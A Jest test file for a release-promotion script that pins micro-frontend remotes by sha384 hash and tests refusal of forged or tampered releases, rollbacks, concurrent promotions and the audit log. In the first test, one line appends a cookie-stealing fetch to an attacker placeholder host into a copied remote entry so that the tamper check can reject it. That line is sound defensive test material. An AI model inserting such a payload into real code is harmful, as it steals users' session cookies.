// `npm run promote` (scripts/promote.mjs) as an operator runs it: a child process over a store, a
// remotes.json and a record of its own, against a stand-in for the site's gateway.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { readPromotions, noteBuild } from './promotion-log.mjs';
import { integrityOfFolder, sri } from './release-integrity.mjs';
import { makeRelease, runPromote, SHELL_CONTRACT, shellManifest, startSite } from './release-fixtures.mjs';
import { REMOTE_NAMES } from './release-store.mjs';
import { historyFileOf, manifestUrl } from './remotes-file.mjs';

// Each promote is a node process: seconds on a busy machine.
jest.setTimeout(60_000);

let dir;
let store;
let file;
let released;
let env;
beforeEach(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'promote-test-'));
  store = path.join(dir, 'releases');
  file = path.join(dir, 'remotes.json');
  released = path.join(dir, 'released');
  const shell = path.join(dir, 'shell-manifest.json');
  fs.writeFileSync(shell, JSON.stringify(shellManifest()));
  env = { RELEASES_DIR: store, REMOTES_FILE: file, RELEASED_DIR: released, SHELL_MANIFEST: shell };
});
afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

const served = () => JSON.parse(fs.readFileSync(file, 'utf8'));

test('a copied release with code appended to its remote entry, under a made-up id, is refused (exit 3)', async () => {
  const good = makeRelease(store, 'designer', 'good');
  expect((await runPromote(['designer', good.release], env)).code).toBe(0);
  const forged = path.join(store, 'designer', '1.0.0-abcdef0123');
  fs.cpSync(good.dir, forged, { recursive: true });
  fs.appendFileSync(path.join(forged, 'remoteEntry.js'), '\nfetch("https://evil.example/?" + document.cookie);');
  const before = fs.readFileSync(file, 'utf8');

  const result = await runPromote(['designer', '1.0.0-abcdef0123'], env);
  expect(result.code).toBe(3);
  expect(result.stderr).toMatch(/does not hold release 1\.0\.0-abcdef0123: its content hashes to [0-9a-f]{10}, not abcdef0123/);
  expect(fs.readFileSync(file, 'utf8')).toBe(before);
});

test('remotes.json pins the release with the sha384 of its manifest and remote entry, and holds no history', async () => {
  const first = makeRelease(store, 'designer', 'first');
  const second = makeRelease(store, 'designer', 'second');
  await runPromote(['designer', first.release], env);
  expect((await runPromote(['designer', second.release], env)).code).toBe(0);
  expect(served()).toEqual({
    remotes: { designer: manifestUrl('designer', second.release) },
    integrity: {
      designer: {
        manifest: sri(fs.readFileSync(path.join(second.dir, 'mf-manifest.json'))),
        remoteEntry: sri(fs.readFileSync(path.join(second.dir, 'remoteEntry.js'))),
      },
    },
  });
  expect(JSON.parse(fs.readFileSync(historyFileOf(file), 'utf8')).previous.designer).toEqual([manifestUrl('designer', first.release)]);
});

describe('with GATEWAY, what the site does not serve is refused', () => {
  let site;
  let rolledOut;
  beforeEach(async () => {
    rolledOut = new Set();
    site = await startSite(store, { serves: (name, release) => rolledOut.has(release) });
  });
  afterEach(() => site.close());

  test('a release no pod serves yet (404) is refused; once served, it is promoted with what the site serves', async () => {
    const { release, dir: releaseDir } = makeRelease(store, 'account', 'new');
    const withSite = { ...env, GATEWAY: site.origin, SHELL_MANIFEST: `${site.origin}/mf-manifest.json` };
    const refused = await runPromote(['account', release], withSite);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain(`${site.origin}/remotes/account/${release}/mf-manifest.json answered 404`);
    expect(fs.existsSync(file)).toBe(false);

    rolledOut.add(release);
    expect((await runPromote(['account', release], withSite)).code).toBe(0);
    expect(served().integrity.account).toEqual(integrityOfFolder(releaseDir));
  });

  test('a site serving other bytes than the store holds for that release is refused (exit 3)', async () => {
    const { release, dir: releaseDir } = makeRelease(store, 'account', 'new');
    rolledOut.add(release);
    const other = fs.mkdtempSync(path.join(dir, 'site-'));
    fs.cpSync(store, other, { recursive: true });
    fs.appendFileSync(path.join(other, 'account', release, 'remoteEntry.js'), '\n/* changed on the way */');
    const tampered = await startSite(other);
    try {
      const result = await runPromote(['account', release], { ...env, GATEWAY: tampered.origin });
      expect(result.code).toBe(3);
      expect(result.stderr).toContain(`is not the release ${release} of the store: the bytes served differ`);
      expect(integrityOfFolder(releaseDir).remoteEntry).not.toBe(sri(fs.readFileSync(path.join(other, 'account', release, 'remoteEntry.js'))));
    } finally {
      await tampered.close();
    }
  });
});

test('a rollback goes to the newest earlier release that can run, and says which it skipped', async () => {
  const good = makeRelease(store, 'designer', 'good');
  const nextMajor = `${Number(SHELL_CONTRACT.split('.')[0]) + 1}.0`;
  const incompatible = makeRelease(store, 'designer', 'for the next shell', { shellContract: nextMajor });
  const deleted = makeRelease(store, 'designer', 'deleted');
  const faked = makeRelease(store, 'designer', 'faked');
  const current = makeRelease(store, 'designer', 'current');
  for (const { release } of [good, incompatible, deleted, faked, current]) {
    const result = await runPromote(['designer', release, '--skip-shell-check'], env);
    expect(result.code).toBe(0);
  }
  fs.rmSync(deleted.dir, { recursive: true });
  fs.appendFileSync(path.join(faked.dir, 'remoteEntry.js'), '\n/* added later */');

  const result = await runPromote(['designer', '--rollback', '--reason', 'current breaks the studio'], env);
  expect(result.code).toBe(0);
  expect(result.stdout).toContain(`skipped ${manifestUrl('designer', faked.release)}: ${faked.dir} does not hold release ${faked.release}`);
  expect(result.stdout).toContain(`skipped ${manifestUrl('designer', deleted.release)}: ${store} has no release ${deleted.release} of designer`);
  expect(result.stdout).toContain(`skipped ${manifestUrl('designer', incompatible.release)}: the shell of ${env.SHELL_MANIFEST}: shell contract: the remote was built for shell contract ${nextMajor}`);
  expect(served().remotes.designer).toBe(manifestUrl('designer', good.release));
  expect(served().integrity.designer).toEqual(integrityOfFolder(good.dir));
  // The skipped ones are gone from the history with the release it left; the record follows.
  expect(JSON.parse(fs.readFileSync(historyFileOf(file), 'utf8')).previous.designer).toEqual([]);
  expect(JSON.parse(fs.readFileSync(path.join(released, 'designer.json'), 'utf8')).release).toBe(good.release);
  const rollback = readPromotions(released).at(-1);
  expect(rollback).toMatchObject({ action: 'rollback', remote: 'designer', from: manifestUrl('designer', current.release), to: manifestUrl('designer', good.release), reason: 'current breaks the studio' });
  expect(rollback.skipped.map(({ url }) => url)).toEqual([faked, deleted, incompatible].map(({ release }) => manifestUrl('designer', release)));

  // Nothing earlier is left: refused, and the file stays.
  const again = await runPromote(['designer', '--rollback'], env);
  expect(again.code).toBe(2);
  expect(again.stderr).toContain('has no earlier release of designer to roll back to');
  expect(served().remotes.designer).toBe(manifestUrl('designer', good.release));
});

test('a rollback with no release left that can run is refused, naming each skipped one', async () => {
  const deleted = makeRelease(store, 'marketing', 'deleted');
  const current = makeRelease(store, 'marketing', 'current');
  await runPromote(['marketing', deleted.release], env);
  await runPromote(['marketing', current.release], env);
  fs.rmSync(deleted.dir, { recursive: true });
  const result = await runPromote(['marketing', '--rollback'], env);
  expect(result.code).toBe(2);
  expect(result.stderr).toContain(`marketing: no earlier release can be rolled back to; ${manifestUrl('marketing', current.release)} stays. Skipped:`);
  expect(served().remotes.marketing).toBe(manifestUrl('marketing', current.release));
});

test('promotions of four remotes at once, three times over, lose no update', async () => {
  const releases = Object.fromEntries(REMOTE_NAMES.map((name) => [name, [1, 2, 3].map((round) => makeRelease(store, name, `${name} ${round}`).release)]));
  for (const round of [0, 1, 2]) {
    const results = await Promise.all(REMOTE_NAMES.map((name) => runPromote([name, releases[name][round], '--reason', `round ${round}`], env)));
    expect(results.map(({ code, stderr }) => ({ code, stderr }))).toEqual(REMOTE_NAMES.map(() => ({ code: 0, stderr: '' })));
    expect(served().remotes).toEqual(Object.fromEntries(REMOTE_NAMES.map((name) => [name, manifestUrl(name, releases[name][round])])));
    expect(Object.keys(served().integrity).sort()).toEqual([...REMOTE_NAMES].sort());
  }
  const history = JSON.parse(fs.readFileSync(historyFileOf(file), 'utf8')).previous;
  for (const name of REMOTE_NAMES) expect(history[name]).toEqual(releases[name].slice(0, 2).map((release) => manifestUrl(name, release)));
  expect(readPromotions(released)).toHaveLength(12);
  expect(fs.readdirSync(dir).filter((entry) => entry.includes('.lock'))).toEqual([]);
});

test('the audit trail says who promoted what, when, from which commit and why', async () => {
  const { release } = makeRelease(store, 'backoffice', 'one');
  noteBuild(store, 'backoffice', release, 'abc123');
  const result = await runPromote(['backoffice', release, '--reason', 'the refund button'], { ...env, PROMOTED_BY: 'Dara <dara@teamwear.example>' });
  expect(result.code).toBe(0);
  const [entry] = readPromotions(released);
  expect(entry).toEqual({
    at: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
    by: 'Dara <dara@teamwear.example>',
    action: 'promote',
    remote: 'backoffice',
    from: null,
    to: manifestUrl('backoffice', release),
    release,
    builtFrom: 'abc123',
    promotedFrom: expect.stringMatching(/^[0-9a-f]{40}(\+changes)?$/),
    reason: 'the refund button',
    remotesFile: file,
  });
  expect(Date.now() - Date.parse(entry.at)).toBeLessThan(60_000);
});
